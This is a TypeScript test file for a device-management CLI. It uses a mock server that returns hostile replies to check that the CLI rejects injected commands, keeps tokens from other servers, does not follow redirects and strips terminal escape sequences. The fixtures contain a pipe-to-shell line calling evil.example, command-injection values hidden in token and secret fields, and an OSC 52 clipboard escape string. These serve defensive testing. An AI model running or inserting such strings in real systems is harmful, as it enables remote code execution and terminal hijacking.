// needs: ssh-keygen
import { execFileSync } from "node:child_process";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { startLyingServer } from "../testing/lying-server.ts";
import { openTerminal } from "../testing/transcript.ts";

const of = (digit: string) => `sha256:${digit.repeat(64)}`;
const DEVICE = "11111111-2222-4333-8444-555555555555";

describe("devices token", () => {
  const reply = {
    id: DEVICE,
    token: "cse_abc",
    client: "acme",
    expires_at: 1_700_000_000,
    max_uses: 1,
    roots: [of("a")],
    command: "curl https://evil.example | sh",
  };

  test("prints a line made here: what the server would have typed on a device is not passed on", async () => {
    await using server = await startLyingServer({ "POST /devices/tokens": reply });
    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url });
    const said = await terminal.type("devices", "token", "--client", "acme");
    expect(said.code).toBe(0);
    expect(said.out).not.toContain("curl");
    expect(said.out).toContain(
      `countersign agent enroll --server ${server.url} --token cse_abc --root ${of("a")}`,
    );
    const json = await terminal.type("devices", "token", "--client", "acme", "--json");
    expect(json.out).not.toContain("curl");
  });

  test("refuses a token that is more than one word", async () => {
    await using server = await startLyingServer({
      "POST /devices/tokens": { ...reply, token: "x; curl https://evil.example | sh" },
    });
    const said = await openTerminal({ COUNTERSIGN_SERVER: server.url }).type(
      "devices",
      "token",
      "--client",
      "acme",
    );
    expect(said.code).toBe(1);
    expect(said.out + said.err).not.toContain("curl");
  });
});

describe("users invite", () => {
  const user = {
    id: DEVICE,
    email: "b@example.org",
    name: "Bob",
    role: "standard",
    state: "invited",
    person: null,
    created_at: 1,
  };

  async function invite(invitation: string) {
    const link = "https://evil.example/accept";
    const reply = { user, invitation, link, expires_at: 1_700_000_000 };
    await using server = await startLyingServer({ "POST /users": reply });
    const words = ["users", "invite", "--email", "b@example.org", "--name", "Bob", "--role", "standard"];
    return await openTerminal({ COUNTERSIGN_SERVER: server.url }).type(...words);
  }

  test("hands over a line that one can type, and none that would do something else", async () => {
    const good = await invite("csi_abc-DEF_1");
    expect(good.code).toBe(0);
    expect(good.out).toContain("--invitation csi_abc-DEF_1");
    expect(good.out).not.toContain("evil.example");
    const said = await invite("x; curl https://evil.example | sh");
    expect(said.code).toBe(1);
    expect(said.out + said.err).not.toContain("curl");
  });
});

describe("keys create", () => {
  test("prints a key and nothing else", async () => {
    const key = {
      id: DEVICE,
      name: "ci",
      prefix: "csk_abc",
      permissions: null,
      created_at: 1,
      expires_at: null,
      last_used_at: null,
    };
    await using server = await startLyingServer({ "POST /keys": { key, secret: "x $(curl evil.example)" } });
    const said = await openTerminal({ COUNTERSIGN_SERVER: server.url }).type(
      "keys",
      "create",
      "--name",
      "ci",
    );
    expect(said.code).toBe(1);
    expect(said.out).toBe("");
  });
});

describe("a token in the environment", () => {
  const env = (own: string) => ({ COUNTERSIGN_SERVER: own, COUNTERSIGN_TOKEN: "csk_secret" });

  test("is shown to the server that is set up beside it, and to no other that is named on the line", async () => {
    await using own = await startLyingServer({ "GET /clients": { clients: [] } });
    await using other = await startLyingServer({ "GET /clients": { clients: [] } });
    await openTerminal(env(own.url)).type("clients", "list", "--server", other.url);
    await openTerminal(env(own.url)).type("clients", "list");
    await openTerminal(env(own.url)).type("clients", "list", "--server", `${own.url}/`);
    await openTerminal(env(own.url)).type("clients", "list", "--server", other.url, "--token", "csk_meant");
    await openTerminal({ COUNTERSIGN_TOKEN: "csk_any" }).type("clients", "list", "--server", other.url);
    expect(other.heard.map(({ authorization }) => authorization)).toEqual([
      undefined,
      "Bearer csk_meant",
      "Bearer csk_any",
    ]);
    expect(own.heard.map(({ authorization }) => authorization)).toEqual([
      "Bearer csk_secret",
      "Bearer csk_secret",
    ]);
  });
});

describe("a server that sends people on", () => {
  test.each([302, 307, 308])(
    "with %d is not followed: what was typed is for the server that was named",
    async (status) => {
      await using other = await startLyingServer({});
      await using server = await startLyingServer({}, { status, location: other.url });
      const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url }, "correct horse battery\n");
      const said = await terminal.type("login", "--email", "a@example.org", "--password-stdin");
      expect(said.code).toBe(1);
      expect(said.err).toContain(other.url);
      expect(other.heard).toEqual([]);
    },
  );
});

describe("what a device or a server says", () => {
  test("cannot drive the terminal, in no command and in no form of output", async () => {
    const hostile = "\u001b]52;c;eA==\u0007\u009b2J\u202e\u200b";
    const device = {
      id: DEVICE,
      fingerprint: of("a"),
      seal: "A".repeat(43),
      machine: null,
      name: `web\u202e-1`,
      client: "acme",
      state: "enrolled",
      connected: true,
      last_seen_at: null,
      trust: "nobody",
      admission: null,
      pins: [],
      floor_state: "none",
      separation: hostile,
      facts: { os: hostile },
      tags: [],
      created_at: 1,
    };
    const objection = { document: of("b"), because: hostile, detail: hostile, at: 1 };
    await using server = await startLyingServer({
      [`GET /devices/${DEVICE}`]: { device, status: null, objections: [objection] },
    });
    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url });
    const said = [
      await terminal.type("devices", "show", DEVICE),
      await terminal.type("devices", "show", DEVICE, "--json"),
    ];
    for (const { code, out, err } of said) {
      expect(code).toBe(0);
      expect(out.length).toBeGreaterThan(100);
      expect(out + err).not.toMatch(/[^\P{Cc}\n\t]|\p{Cf}/u);
    }
    const [, json] = said;
    expect(JSON.parse(json?.out ?? "")).toMatchObject({ device, objections: [objection] });
  });
});

describe("audit verify", () => {
  test("shows a token to the server that it was made for, and to nobody else", async () => {
    await using own = await startLyingServer({});
    await using other = await startLyingServer({});
    const env = { COUNTERSIGN_SERVER: own.url, COUNTERSIGN_TOKEN: "csk_secret" };
    await openTerminal(env).type("audit", "verify", other.url);
    await openTerminal(env).type("audit", "verify", own.url);
    await openTerminal(env).type("audit", "verify", other.url, "--token", "csk_meant");
    expect(other.heard.map(({ authorization }) => authorization)).toEqual([undefined, "Bearer csk_meant"]);
    expect(own.heard.map(({ authorization }) => authorization)).toEqual(["Bearer csk_secret"]);
  });
});

describe("devices admit", () => {
  const device = {
    id: DEVICE,
    fingerprint: of("a"),
    seal: "A".repeat(43),
    machine: null,
    name: "web-1",
    client: "weak",
    state: "enrolled",
    connected: true,
    last_seen_at: null,
    trust: "nobody",
    admission: null,
    pins: [],
    floor_state: "none",
    separation: "separate-users",
    facts: {},
    tags: [],
    created_at: 1,
  };
  const authority = {
    authority: of("c"),
    name: "Acme IT",
    scope: "operator",
    trial: false,
    version: 1,
    hash: of("d"),
    expires: 1_800_000_000,
    people_version: 0,
    successor: null,
  };
  const answers = {
    [`GET /devices/${DEVICE}`]: { device, status: null, objections: [] },
    "GET /trust/authorities": { authorities: [authority] },
    "POST /documents": { hash: of("e"), type: "admission", devices: 1 },
  };

  async function admit(reply: string | undefined, ...options: string[]) {
    await using server = await startLyingServer(answers);
    const terminal = openTerminal({ COUNTERSIGN_SERVER: server.url }, "", reply);
    const key = path.join(terminal.directory, "ann");
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", "ann", "-f", key]);
    const said = await terminal.type("devices", "admit", DEVICE, "--key", key, ...options);
    return { ...said, sent: server.heard.filter(({ method }) => method === "POST").length };
  }

  test("says what it signs before it signs it, and asks on a terminal", async () => {
    const no = await admit("no");
    expect({ code: no.code, sent: no.sent }).toEqual({ code: 1, sent: 0 });
    expect(no.err).toContain("weak");
    expect(no.err).toContain(of("a"));
    expect(await admit("yes")).toMatchObject({ code: 0, sent: 1 });
    expect(await admit("no", "--yes")).toMatchObject({ code: 0, sent: 1 });
    expect(await admit(undefined)).toMatchObject({ code: 0, sent: 1 });
  });
});
